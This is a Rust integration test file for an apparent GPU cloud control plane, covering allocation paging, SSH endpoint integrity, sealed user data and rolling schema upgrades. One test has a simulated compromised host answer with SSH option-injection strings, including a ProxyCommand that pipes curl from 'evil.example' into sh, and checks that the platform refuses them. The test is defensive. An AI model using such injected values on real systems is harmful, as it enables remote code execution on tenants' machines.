    let id = launch(&cp, &bob, "h100.2x", "elsewhere").await.unwrap();
    let task = tokio::time::timeout(Duration::from_secs(20), waiting)
        .await
        .expect("the watcher nudged the claim long before its 60 s were up")
        .unwrap()
        .unwrap()
        .expect("the launch's provision");
    assert!(
        matches!(&task.spec, TaskSpec::VmProvision(p) if p.allocation_id == id.to_string()),
        "{:?}",
        task.spec
    );
}

#[tokio::test]
async fn a_page_of_several_projects_is_newest_first_across_them_without_gaps_or_repeats() {
    use control_plane::allocations::AllocationFilter;
    use control_plane::demo::ACME_INFERENCE;
    use control_plane::tenancy::ProjectViewers;
    let (_db, cp, ops) = setup().await;
    hgx(&cp, &ops, "gpu-page").await;
    let alice = cp.principal(ALICE).await.unwrap().unwrap();
    let research = member(&cp, ALICE, ACME_RESEARCH).await;
    let inference = member(&cp, ALICE, ACME_INFERENCE).await;
    let mut launched = Vec::new();
    for i in 0..6 {
        let who = if i % 3 == 0 { &inference } else { &research };
        launched.push(
            launch(&cp, who, "h100.1x", &format!("p-{i}"))
                .await
                .unwrap(),
        );
    }
    // Newest first, ties by id, as the database orders them.
    let expected: Vec<AllocationId> = sqlx::query_scalar(
        "SELECT id FROM allocations WHERE id = ANY($1) ORDER BY created_at DESC, id DESC",
    )
    .bind(launched.iter().map(|a| a.0).collect::<Vec<_>>())
    .fetch_all(cp.pool())
    .await
    .unwrap()
    .into_iter()
    .map(AllocationId)
    .collect();
    let viewer = async |p| {
        cp.project_access::<ProjectViewers>(&alice, p)
            .await
            .unwrap()
    };
    // A project named twice is read once.
    let projects = [
        viewer(ACME_RESEARCH).await,
        viewer(ACME_INFERENCE).await,
        viewer(ACME_RESEARCH).await,
    ];
    let (mut seen, mut after, mut pages) = (Vec::new(), None, 0);
    loop {
        let filter = AllocationFilter {
            state: Some("active".into()),
            after: after.take(),
            limit: 4,
            ..Default::default()
        };
        let page = cp.allocation_page(&projects, &filter).await.unwrap();
        pages += 1;
        assert!(page.items.len() <= 4);
        seen.extend(page.items.iter().map(|a| a.id));
        match page.next {
            Some(n) => after = Some(n),
            None => break,
        }
    }
    assert_eq!((seen, pages), (expected.clone(), 2), "pages of 4 over 6");
    // One project's page holds only its own, in the same order.
    let only = cp
        .allocation_page(
            &[viewer(ACME_INFERENCE).await],
            &AllocationFilter {
                limit: 10,
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let inference_ids: Vec<AllocationId> = expected
        .iter()
        .copied()
        .filter(|a| [launched[0], launched[3]].contains(a))
        .collect();
    assert_eq!(
        only.items.iter().map(|a| a.id).collect::<Vec<_>>(),
        inference_ids
    );
    assert_eq!(only.next, None);
    // A state names one state; none are released yet.
    let (state, ..) = state(&cp, launched[0]).await;
    for (asked, expect) in [(state.as_str(), expected.len()), ("released", 0)] {
        let page = cp
            .allocation_page(
                &projects,
                &AllocationFilter {
                    state: Some(asked.into()),
                    limit: 10,
                    ..Default::default()
                },
            )
            .await
            .unwrap();
        assert_eq!(page.items.len(), expect, "{asked}");
    }
}

/// A host's provision result names where to connect, but a compromised host must not choose
/// the text a tenant's `ssh` runs: the endpoint a tenant sees is what the platform planned (the
/// node's public address, the slot's SSH port, the listing's SSH user), whatever the host
/// says; and the database refuses a host or user that is not a name, whoever writes it.
#[tokio::test]
async fn a_host_cannot_choose_the_ssh_command_a_tenant_runs() {
    let (_db, cp, ops) = setup().await;
    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.2x", "train-1").await.unwrap();
    answer(&cp, &agent, PROVISION, |_| TaskOutcome::Succeeded {
        output: TaskOutput::Provisioned(agent_protocol::Provisioned {
            ssh_host: "evil.example -oProxyCommand=curl${IFS}evil.example|sh".into(),
            ssh_port: 2,
            ssh_user: "u -oProxyCommand=touch /tmp/owned".into(),
        }),
    })
    .await;
    assert_eq!(state(&cp, id).await.0, "running");

    let principal = cp.principal(BOB).await.unwrap().unwrap();
    let d = cp.allocation(&principal, id).await.unwrap();
    let planned = control_plane::allocations::SshEndpoint {
        host: "gpu-a".into(),
        port: 22000,
        user: "ubuntu".into(),
    };
    assert_eq!(d.ssh_endpoint.as_ref(), Some(&planned));
    assert_eq!(d.ssh.as_deref(), Some("ssh -p 22000 ubuntu@gpu-a"));
    let page = cp
        .allocation_page(
            &[
                in_project::<control_plane::tenancy::ProjectViewers>(
                    &cp,
                    &principal,
                    ACME_RESEARCH,
                )
                .await,
            ],
            &control_plane::allocations::AllocationFilter {
                state: None,
                tag: None,
                after: None,
                limit: 10,
            },
        )
        .await
        .unwrap();
    assert_eq!(page.items[0].ssh_endpoint.as_ref(), Some(&planned));
    assert_eq!(
        planned.argv(["nvidia-smi".to_owned()]),
        ["ssh", "-p", "22000", "--", "ubuntu@gpu-a", "nvidia-smi"]
    );

    for (update, constraint) in [
        (
            "UPDATE allocations SET ssh_user = 'u -oProxyCommand=x'",
            "allocations_ssh_user_form",
        ),
        (
            "UPDATE allocations SET ssh_host = '-oProxyCommand=x'",
            "allocations_ssh_host_form",
        ),
        (
            "UPDATE allocations SET ssh_host = 'a b.example'",
            "allocations_ssh_host_form",
        ),
        (
            "UPDATE allocations SET ssh_port = 0",
            "allocations_ssh_port_range",
        ),
    ] {
        test_db::fixtures::assert_db_refuses(&cp, update, constraint).await;
    }
    // An address is a host too.
    for host in ["203.0.113.7", "2001:db8::7"] {
        sqlx::query("UPDATE allocations SET ssh_host = $1 WHERE id = $2")
            .bind(host)
            .bind(id.0)
            .execute(cp.pool())
            .await
            .unwrap();
    }
}

/// A tenant's user data may carry their secrets: it is sealed in the allocation and in its
/// provision task, handed open only to the agent that claims the task, and forgotten by both
/// once the provision has answered.
#[tokio::test]
async fn user_data_is_sealed_at_rest_handed_open_to_its_agent_and_then_forgotten() {
    let (_db, cp, ops) = setup().await;
    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let doc = "#cloud-config\nwrite_files:\n- path: /etc/registry-token\n  content: s3cret-registry-token\n";
    let id = cp
        .launch(
            &bob,
            &LaunchRequest {
                user_data: Some(doc.into()),
                ..request("h100.2x", "with-user-data")
            },
            None,
        )
        .await
        .unwrap()
        .id;
    let at_rest: String = sqlx::query_scalar(
        "SELECT a.user_data_sealed || coalesce(a.user_data, '') || t.spec::text
         FROM allocations a JOIN agent_tasks t ON t.allocation_id = a.id WHERE a.id = $1",
    )
    .bind(id.0)
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert!(!at_rest.contains("s3cret-registry-token"), "{at_rest}");

    let spec = answer(&cp, &agent, PROVISION, provisioned).await;
    let TaskSpec::VmProvision(plan) = &spec else {
        panic!("{spec:?}")
    };
    assert_eq!(plan.user_data.as_deref(), Some(doc));
    let left: (Option<String>, Option<String>, bool) = sqlx::query_as(
        "SELECT a.user_data, a.user_data_sealed, t.spec ?| ARRAY['user_data', 'user_data_sealed']
         FROM allocations a JOIN agent_tasks t ON t.allocation_id = a.id WHERE a.id = $1",
    )
    .bind(id.0)
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(left, (None, None, false));
    assert_eq!(state(&cp, id).await.0, "running");
}

/// A rolling upgrade: the next release's migrations run while this release's replicas still
/// serve. The next release may only expand the schema (columns added nullable or with a
/// default, tables added), and this release must go on working on it: ready, launching,
/// reading and releasing. It must not run migrations itself, which sqlx refuses once the
/// database holds one this build doesn't know.
#[tokio::test]
async fn this_release_keeps_serving_on_the_next_releases_expanded_schema() {
    let (_db, cp, ops) = setup().await;
    let (_node, _agent, _credential) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let before = launch(&cp, &bob, "h100.2x", "before-the-upgrade")
        .await
        .unwrap();

    // What the next release's migration might do to the tables a launch and a release touch.
    sqlx::raw_sql(
        "ALTER TABLE allocations ADD COLUMN next_release_note text;
         ALTER TABLE resource_claims ADD COLUMN next_release_flag boolean NOT NULL DEFAULT false;
         ALTER TABLE agent_tasks ADD COLUMN next_release_hint jsonb;
         ALTER TABLE node_resource_slots ADD COLUMN next_release_weight int NOT NULL DEFAULT 1;
         ALTER TABLE usage_intervals ADD COLUMN next_release_tag text;
         CREATE TABLE next_release_things (id bigint PRIMARY KEY);
         INSERT INTO _sqlx_migrations (version, description, success, checksum, execution_time)
         VALUES (99991231000000, 'the next release', true, '\\x00', 0);",
    )
    .execute(cp.pool())
    .await
    .unwrap();

    let known = control_plane::MIGRATOR.iter().count();
    assert_eq!(
        cp.readiness().await,
        control_plane::health::Readiness::Ready { migrations: known },
        "ready: every migration this build knows is applied"
    );
    let during = launch(&cp, &bob, "h100.2x", "during-the-upgrade")
        .await
        .unwrap();
    let principal = cp.principal(BOB).await.unwrap().unwrap();
    for id in [before, during] {
        let detail = cp.allocation(&principal, id).await.unwrap();
        assert_eq!(detail.id, id);
        cp.release_allocation(&bob, id, None).await.unwrap();
    }
    let releasing: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM allocations WHERE id = ANY($1) AND desired_state = 'released'",
    )
    .bind(vec![before.0, during.0])
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(releasing, 2);
    assert!(
        cp.migrate().await.is_err(),
        "this build refuses to migrate a database a newer release migrated"
    );
}
